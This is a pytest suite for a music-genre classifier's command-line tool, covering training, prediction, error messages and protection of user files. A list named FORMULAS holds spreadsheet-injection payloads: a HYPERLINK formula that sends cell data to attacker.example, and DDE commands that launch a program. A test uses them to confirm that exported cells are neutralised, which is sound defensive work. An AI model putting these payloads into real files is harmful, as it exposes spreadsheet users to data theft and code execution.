"""`genrebot train`, `predict` and `evaluate` from the command line (training/cli.py)."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from tests.training.layouts import (
    exportify,
    genrebot,
    kaggle_tracks,
    songs,
    spotify_features,
    write,
)


def test_train_writes_a_model_directory_without_pickles(trained: tuple[Path, Path, str]) -> None:
    """Training writes safetensors + JSON + the taxonomy, with the data's hash and the kept epoch."""
    _, out, stderr = trained
    assert "epoch 12/12" in stderr and "cleaning report" in stderr
    meta = json.loads((out / "model.json").read_text())
    assert meta["training_data"]["dataset.csv"]["sha256"]
    kept = meta["kept_epochs"]
    assert kept == list(range(kept[0], kept[-1] + 1)) and 1 <= kept[0] <= kept[-1] <= 12
    if len(kept) == 1:  # one epoch's weights: its validation scores are that epoch's in the history
        assert meta["metrics"]["validation"] == {k: v for k, v in meta["history"][kept[0] - 1].items()
                                                 if k not in ("epoch", "loss")}
    else:  # a mean of epochs' weights ends with the last epoch, and beat every single epoch on validation
        assert kept[-1] == 12
        assert meta["metrics"]["validation"]["score"] > max(row["score"] for row in meta["history"])
    assert {p.name for p in out.iterdir()} == {"model.safetensors", "model.json", "taxonomy.json"}
    taxonomy = json.loads((out / "taxonomy.json").read_text())
    genres = {g["key"] for family in taxonomy["families"] for g in family["genres"]}
    assert set(meta["new_artist_genre_balance"]) == genres  # tuned on validation, one log-weight per genre
    assert "new artists' genre balance: strength" in stderr
    teacher = meta["teacher"]  # the network was distilled from a teacher trained first, whose choice is recorded
    assert 1 <= teacher["kept_epochs"][0] <= teacher["kept_epochs"][-1] <= 12 and teacher["validation"]["score"] > 0
    assert "teacher: kept " in stderr and meta["training_phases_seconds"]["teacher network"] > 0


def test_the_shipped_model_knows_every_training_songs_artist_and_album(trained: tuple[Path, Path, str]) -> None:
    """Validation holds some artists out to tune the decision; the model that ships still counts
    their songs in its artist and album tables, so a song by one of them finds its artist known."""
    from classifier import Classifier
    from classifier.features import featurise
    from training.data import load_labelled

    source, out, _ = trained
    model = Classifier.load(out)
    batch = featurise(load_labelled(source).tracks, model.parts.schema)
    assert model.known_artists(batch.artist_keys).all()
    assert (model.parts.albums.rows(batch.album_keys) >= 0).all()


def test_training_shows_progress_with_time_estimates_in_every_phase(trained: tuple[Path, Path, str]) -> None:
    """The name-model folds and every epoch show a progress bar with an estimate of time left."""
    _, _, stderr = trained
    assert "name model" in stderr and "<" in stderr.split("name model", 1)[1].split("\n", 1)[0]
    assert "epoch 1/12" in stderr and "batch" in stderr
    assert "teacher epoch 1/12" in stderr  # the teacher network's epochs come first, with their own bars


def test_genres_json_is_exactly_families_and_aliases(trained: tuple[Path, Path, str]) -> None:
    """`genres --json` prints one object: families -> genres, and source label -> genre."""
    _, out, _ = trained
    result = genrebot("genres", "--model", str(out), "--json")
    assert result.returncode == 0, result.stderr
    listing = json.loads(result.stdout)
    assert set(listing) == {"families", "aliases"}
    assert "hard-rock" in listing["families"]["rock"] and listing["aliases"]["r&b"] == "r-n-b"


def test_genres_prints_families_with_their_genres(trained: tuple[Path, Path, str]) -> None:
    """Without --json, one line per family with its genres' display labels."""
    _, out, _ = trained
    result = genrebot("genres", "--model", str(out))
    assert result.returncode == 0 and "R&B & Soul [r&b]: R&B, Soul" in result.stdout


@pytest.mark.parametrize("with_audio", [False, True])
def test_predict_keeps_every_row_in_order_with_four_prediction_columns(
    trained: tuple[Path, Path, str], tmp_path: Path, with_audio: bool
) -> None:
    """`predict` writes one row per input row, in order, with genre and subgenre and confidences."""
    _, out, _ = trained
    predictions = tmp_path / "pred.csv"
    result = genrebot("predict", "--input", str(exportify(tmp_path, with_audio)), "--output", str(predictions),
                      "--model", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(predictions.open()))
    assert [r["Track URI"] for r in rows] == [f"spotify:track:{s['id']}" for s in songs(30)]
    assert {"genre", "genre_confidence", "subgenre", "subgenre_confidence"} <= set(rows[0])
    assert all(r["genre"] in ("latin", "hip-hop", "rock") and 0 < float(r["genre_confidence"]) <= 1 for r in rows)
    assert all(0 < float(r["subgenre_confidence"]) <= float(r["genre_confidence"]) for r in rows)


def test_predict_library_pools_the_songs_of_one_album(trained: tuple[Path, Path, str], tmp_path: Path) -> None:
    """With --library (and a model whose album weight is 1), songs of one album get one genre."""
    _, out, _ = trained
    pooled_model = tmp_path / "pooled"
    shutil.copytree(out, pooled_model)
    meta = json.loads((pooled_model / "model.json").read_text())
    meta["pooling"] = {"artist": 0.0, "album": 1.0}
    (pooled_model / "model.json").write_text(json.dumps(meta))
    library = write(tmp_path / "library.csv", ["track_name", "artists", "album_name"],
                    [[song["name"], f"Band {i % 3}", f"Record {i % 3}"] for i, song in enumerate(songs(30))])
    result = genrebot("predict", "--input", str(library), "--output", str(tmp_path / "p.csv"),
                      "--model", str(pooled_model), "--library")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader((tmp_path / "p.csv").open()))
    assert len(rows) == 30
    genres_by_album = {album: {r["subgenre"] for r in rows if r["artists"] == f"Band {album}"} for album in range(3)}
    assert all(len(genres) == 1 for genres in genres_by_album.values())


def test_same_seed_same_training_history(tmp_path: Path) -> None:
    """Two runs with one seed give the same losses and validation scores, epoch by epoch."""
    source = spotify_features(tmp_path)
    histories = []
    for run in ("a", "b"):
        result = genrebot("train", "--data", str(source), "--out", str(tmp_path / run), "--epochs", "2", "--seed", "9",
                          "--threads", "1")
        assert result.returncode == 0, result.stderr
        histories.append(json.loads((tmp_path / run / "model.json").read_text())["history"])
    assert histories[0] == histories[1]


@pytest.mark.parametrize(
    "args, message",
    [
        (["train", "--data", "missing.csv"], "no such file"),
        (["predict", "--input", "missing.csv", "--output", "o.csv"], "no such file"),
        (["evaluate", "--data", "missing.csv"], "no such file"),
        (["predict", "--input", "{bad}", "--output", "o.csv", "--model", "nowhere"], "is not a directory"),
        (["evaluate", "--data", "{bad}", "--compare", "--seeds", "0"], "--seeds: must be at least 1, not 0"),
        (["evaluate", "--data", "{bad}", "--compare", "--seeds", "three"], "--seeds: must be a whole number, not 'three'"),
        (["train", "--data", "{bad}", "--threads", "0"], "--threads: must be at least 1"),
    ],
)
def test_bad_input_gets_one_line_and_exit_2(args: list[str], message: str, tmp_path: Path) -> None:
    """A missing file or model is one clear line and exit status 2, never a traceback."""
    bad = tmp_path / "bad.csv"
    bad.write_text("a,b\n1,2\n")
    args = [a.replace("{bad}", str(bad)) for a in args]
    result = genrebot(*args, cwd=tmp_path)
    assert result.returncode == 2 and message in result.stderr
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) <= 12


def test_training_on_one_class_is_refused_without_writing_a_model(tmp_path: Path) -> None:
    """`train` on single-genre data exits 2 and leaves no model directory behind."""
    one = write(tmp_path / "one.csv", ["track_name", "artists", "genre"], [["x", "y", "rock"], ["z", "w", "rock"]])
    result = genrebot("train", "--data", str(one), "--out", str(tmp_path / "m"))
    assert result.returncode == 2 and "fewer than two classes" in result.stderr
    assert not (tmp_path / "m").exists()


def test_labels_outside_the_taxonomy_are_named_and_refused(tmp_path: Path) -> None:
    """Training labels the taxonomy does not know are listed, with the way out."""
    odd = write(tmp_path / "odd.csv", ["track_name", "artists", "genre"], [["x", "y", "polka"], ["z", "w", "rock"]])
    result = genrebot("train", "--data", str(odd), "--out", str(tmp_path / "m"))
    assert result.returncode == 2 and "polka" in result.stderr and "--taxonomy data" in result.stderr


def snapshot(directory: Path) -> dict[str, bytes]:
    """Every file under `directory` with its bytes: to show that nothing there changed."""
    return {str(p.relative_to(directory)): p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("what", ["a folder of documents", "a CSV file", "the working directory"])
def test_train_refuses_an_output_that_is_not_a_genrebot_model_and_touches_nothing(tmp_path: Path, what: str) -> None:
    """`train --output X` where X holds a user's files: one line, exit 2, every file as it was."""
    source = kaggle_tracks(tmp_path)
    work = tmp_path / "work"
    work.mkdir()
    (work / "thesis.docx").write_bytes(b"chapter one")
    target = {"a folder of documents": "work", "a CSV file": "work/thesis.docx", "the working directory": "."}[what]
    before = snapshot(tmp_path)
    result = genrebot("train", "--input", str(source), "--output", target, "--epochs", "1", "--threads", "1", "--force",
                      cwd=work if what == "the working directory" else tmp_path)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert snapshot(tmp_path) == before


def test_train_replaces_its_own_model_only_with_force_and_never_a_users_old_folder(tmp_path: Path) -> None:
    """A second `train` to the same model needs --force; a user's `model.old` beside it survives both."""
    source = kaggle_tracks(tmp_path)
    (tmp_path / "model.old").mkdir()
    (tmp_path / "model.old" / "keep.txt").write_text("mine")
    first = genrebot("train", "--input", str(source), "--output", "model", "--epochs", "1", "--threads", "1", "--seed", "1", cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    first_version = json.loads((tmp_path / "model" / "model.json").read_text())["version"]
    again = genrebot("train", "--input", str(source), "--output", "model", "--epochs", "1", "--threads", "1", "--seed", "2", cwd=tmp_path)
    assert again.returncode == 2 and "pass --force" in again.stderr
    forced = genrebot("train", "--input", str(source), "--output", "model", "--epochs", "1", "--threads", "1", "--seed", "2", "--force",
                      cwd=tmp_path)
    assert forced.returncode == 0, forced.stderr
    assert json.loads((tmp_path / "model" / "model.json").read_text())["version"] != first_version
    assert (tmp_path / "model.old" / "keep.txt").read_text() == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dataset.csv", "model", "model.old"]


def test_predict_refuses_to_overwrite_a_file_without_force(trained: tuple[Path, Path, str], tmp_path: Path) -> None:
    """An existing --output file stays as it was unless --force is given."""
    _, model, _ = trained
    existing = tmp_path / "predictions.csv"
    existing.write_text("my own notes\n")
    export = exportify(tmp_path, False)
    refused = genrebot("predict", "--input", str(export), "--output", str(existing), "--model", str(model))
    assert refused.returncode == 2 and "pass --force" in refused.stderr
    assert existing.read_text() == "my own notes\n"
    forced = genrebot("predict", "--input", str(export), "--output", str(existing), "--model", str(model), "--force")
    assert forced.returncode == 0, forced.stderr
    assert existing.read_text().startswith("Track URI")


FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def exportify_with_formulas(tmp: Path) -> Path:
    """An Exportify export whose titles and artists are spreadsheet formulas, and loudness negative numbers."""
    header = ["Track URI", "Track Name", "Artist Name(s)", "Album Name", "Album Release Date",
              "Track Duration (ms)", "Explicit", "Loudness"]
    rows = [[f"spotify:track:{s['id']}", FORMULAS[i % len(FORMULAS)] if i < 12 else s["name"],
             FORMULAS[(i + 1) % len(FORMULAS)] if i < 6 else s["artist"], s["album"], s["date"], s["duration"],
             "false", f"-{5 + i / 10:.3f}"] for i, s in enumerate(songs(30))]
    return write(tmp / "formulas.csv", header, rows)


def cells_a_spreadsheet_would_run(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("+-").replace(".", "").isdigit()]


def test_predict_writes_no_cell_a_spreadsheet_would_run(trained: tuple[Path, Path, str], tmp_path: Path) -> None:
    """Titles such as =HYPERLINK(...) come out as '=HYPERLINK(...): text, not a formula (OWASP's rule)."""
    _, model, _ = trained
    output = tmp_path / "predictions.csv"
    result = genrebot("predict", "--input", str(exportify_with_formulas(tmp_path)), "--output", str(output),
                      "--model", str(model))
    assert result.returncode == 0, result.stderr
    assert cells_a_spreadsheet_would_run(output) == []
    names = [row["Track Name"] for row in csv.DictReader(output.open(newline="", encoding="utf-8"))]
    assert names[:len(FORMULAS)] == ["'" + f for f in FORMULAS]


def test_training_says_which_epoch_it_kept_and_why(trained: tuple[Path, Path, str]) -> None:
    """The last lines name the kept weights and the validation score that chose them; model.json agrees."""
    _, out, stderr = trained
    meta = json.loads((out / "model.json").read_text())
    kept = meta["kept_epochs"]
    named = f"epoch {kept[0]}" if len(kept) == 1 else f"the mean of epochs {kept[0]}-{kept[-1]}'s weights"
    score = meta["metrics"]["validation"]["score"]
    assert f"kept {named} (best mean validation macro-F1 {score:.3f})" in stderr


def test_training_on_a_two_row_file_is_one_line(tmp_path: Path) -> None:
    """Two songs of two genres: one line saying how many are needed, exit 2, no model, no traceback."""
    two = write(tmp_path / "two.csv", ["track_name", "artists", "genre"], [["x", "y", "rock"], ["z", "w", "jazz"]])
    result = genrebot("train", "--input", str(two), "--output", str(tmp_path / "m"))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith("genrebot train: 2 usable songs are too few to train on")
    assert not (tmp_path / "m").exists()


@pytest.mark.parametrize("command", [["train", "--output", "m"], ["evaluate"]])
def test_a_directory_given_as_training_data_is_one_line(tmp_path: Path, command: list[str]) -> None:
    """`train --input DIR` / `evaluate --input DIR`: one line, exit 2."""
    result = genrebot(command[0], "--input", str(tmp_path), *command[1:], cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "is a directory" in result.stderr


def test_a_model_directory_that_is_not_there_is_named_as_missing(tmp_path: Path) -> None:
    """--model naming nothing (a typo) says so in one line, rather than that the directory lacks a file."""
    result = genrebot("genres", "--model", str(tmp_path / "modle"), cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "modle is not a directory" in result.stderr and len(result.stderr.strip().splitlines()) == 1


def shipped_model_copy(tmp_path: Path) -> Path:
    from classifier.inference import default_model_dir

    return Path(shutil.copytree(default_model_dir(), tmp_path / "model"))


@pytest.mark.parametrize("damage", ["weights cut short", "weights not safetensors", "model.json a list",
                                    "taxonomy.json a list", "taxonomy.json families a string"])
@pytest.mark.parametrize("command", ["genres", "predict"])
def test_a_damaged_model_directory_is_one_line(tmp_path: Path, damage: str, command: str) -> None:
    """--model DIR whose files are cut short or not what genrebot writes (a copy that stopped half-way,
    a hand edit): one line naming the directory, exit 2, never a traceback."""
    model = shipped_model_copy(tmp_path)
    weights = model / "model.safetensors"
    if damage == "weights cut short":
        weights.write_bytes(weights.read_bytes()[:1000])
    elif damage == "weights not safetensors":
        weights.write_bytes(b"not a model")
    elif damage == "model.json a list":
        (model / "model.json").write_text("[]")
    elif damage == "taxonomy.json a list":
        (model / "taxonomy.json").write_text("[]")
    else:
        (model / "taxonomy.json").write_text('{"format": "genrebot-taxonomy/1", "families": "rock"}')
    args = ["--input", str(exportify(tmp_path, False)), "--output", str(tmp_path / "out.csv")] if command == "predict" else []
    result = genrebot(command, "--model", str(model), *args, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert str(model) in result.stderr
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize("how", ["the same path", "another path to the same file"])
def test_predict_never_writes_over_its_own_input_even_with_force(tmp_path: Path, how: str) -> None:
    """`predict --input liked.csv --output liked.csv --force` would replace the export with its
    seven prediction columns: one line, exit 2, the export as it was."""
    export = exportify(tmp_path, False)
    before = export.read_bytes()
    output = export
    if how == "another path to the same file":
        (tmp_path / "link").symlink_to(tmp_path)
        output = tmp_path / "link" / export.name
    result = genrebot("predict", "--input", str(export), "--output", str(output), "--force", cwd=tmp_path)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "is the --input file" in result.stderr
    assert export.read_bytes() == before




def library_with_a_listed_artist(tmp_path: Path) -> Path:
    """A library without artist URIs: five songs by Nova Harbor (an artist the model never met) and
    one by Nova Harbor with a guest, written "Nova Harbor, Quiet Lanterns", whose title leans elsewhere."""
    rows = [[title, "Nova Harbor", f"Record {i}"] for i, title in
            enumerate(["Thunder Highway", "Stone Guitar Riff", "Distortion Road", "Amplifier Heart", "Feedback Sky"])]
    rows.append(["Perreo Bellaca Reggaeton", "Nova Harbor, Quiet Lanterns", "Single"])
    rows.extend([[f"Piano Nocturne {i}", "Velvet Signal", "Night Music"] for i in range(3)])
    return write(tmp_path / "library.csv", ["track_name", "artists", "album_name"], rows)


def pooled_by_artist_only(tmp_path: Path) -> Path:
    """A copy of the shipped model whose library pooling is its artist's songs' mean alone: songs
    read as one artist's get one prediction."""
    model = shipped_model_copy(tmp_path)
    meta = json.loads((model / "model.json").read_text())
    meta["pooling"] = {"artist": 1.0, "album": 0.0}
    (model / "model.json").write_text(json.dumps(meta))
    return model


def test_predict_library_pools_a_listed_song_with_its_first_artists_other_songs(tmp_path: Path) -> None:
    """`predict --library` on a file without artist URIs: "Nova Harbor, Quiet Lanterns" is Nova
    Harbor's song, so it gets the prediction of Nova Harbor's other songs."""
    output = tmp_path / "p.csv"
    result = genrebot("predict", "--input", str(library_with_a_listed_artist(tmp_path)), "--output", str(output),
                      "--model", str(pooled_by_artist_only(tmp_path)), "--library")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(output.open()))
    columns = ("genre", "genre_confidence", "subgenre", "subgenre_confidence")
    harbor = {tuple(r[c] for c in columns) for r in rows if r["artists"].startswith("Nova Harbor")}
    assert len(harbor) == 1, harbor
